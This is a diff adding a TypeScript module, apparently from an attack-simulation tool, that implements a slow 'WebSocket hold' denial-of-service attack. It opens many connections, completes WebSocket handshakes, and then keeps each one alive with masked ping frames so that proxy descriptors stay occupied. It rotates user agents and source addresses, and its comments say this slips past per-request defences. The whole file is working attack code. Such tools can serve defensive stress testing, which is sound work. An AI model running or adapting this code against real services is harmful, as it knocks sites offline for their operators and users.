@@ -1,0 +1,63 @@
+import { randomBytes } from 'node:crypto';
+import { connect, type Socket } from 'node:net';
+import { recordAnswer } from './metrics.js';
+import { randomToken } from './rng.js';
+import { holdConnections, type RunningSlow, type SlowEnv, type SlowSpec } from './slow.js';
+
+/**
+ * A masked client ping frame (RFC 6455 §5.5.2: FIN, opcode 0x9, masked as every client frame must
+ * be, §5.3) with a 4-byte payload: what keeps a tunnel from being closed as idle.
+ */
+function pingFrame(): Buffer {
+  const mask = randomBytes(4);
+  const payload = randomBytes(4);
+  const frame = Buffer.alloc(2 + 4 + payload.length);
+  frame[0] = 0x89;
+  frame[1] = 0x80 | payload.length;
+  mask.copy(frame, 2);
+  for (let i = 0; i < payload.length; i++) frame[6 + i] = payload[i]! ^ mask[i % 4]!;
+  return frame;
+}
+
+/**
+ * WebSocket hold: each connection completes a WebSocket handshake (RFC 6455 §4.1) on a route that
+ * accepts upgrades and then only sends a ping every interval — a connection held on both sides of
+ * a proxy (the client's and the upstream's descriptors) for as long as the attacker likes, which a
+ * per-request defence never sees again after the handshake. "Sent" counts handshakes; answers are
+ * their status (101 when the tunnel opened).
+ */
+export function startWebSocketHold(spec: SlowSpec, env: SlowEnv): RunningSlow {
+  const opened = new WeakSet<Socket>();
+  const h = holdConnections(spec, env, {
+    open(idx, address) {
+      const id = env.identities[idx % env.identities.length]!;
+      const socket = connect({ host: env.host, port: env.port, ...(address ? { localAddress: address } : {}) });
+      socket.setNoDelay(true);
+      socket.once('connect', () => socket.write([
+        `GET ${spec.path}${randomToken(env.rng, 10)} HTTP/1.1`,
+        `Host: ${env.hostHeader}`,
+        `User-Agent: ${id.userAgent}`,
+        'Upgrade: websocket',
+        'Connection: Upgrade',
+        `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
+        'Sec-WebSocket-Version: 13',
+        `Origin: http://${env.hostHeader}`,
+        '', '',
+      ].join('\r\n')));
+      socket.on('data', (buf: Buffer) => {
+        if (opened.has(socket)) return; // frames from the server: read and dropped
+        opened.add(socket);
+        const m = /^HTTP\/1\.[01] (\d{3})/.exec(buf.toString('latin1', 0, 16));
+        recordAnswer(h.counters, env.now(), m ? m[1]! : 'data');
+        // A refusal is an HTTP answer: the attacker closes and the pool opens another.
+        if (m?.[1] !== '101') socket.destroy();
+      });
+      socket.once('close', () => { if (!opened.has(socket) && h.held.has(socket)) recordAnswer(h.counters, env.now(), 'closed'); });
+      return socket;
+    },
+    trickle(socket) {
+      if (opened.has(socket)) socket.write(pingFrame());
+    },
+  });
+  return { counters: h.counters, get held() { return h.held.size; }, get longestHeldMs() { return h.longestHeldMs(); }, done: h.done };
+}
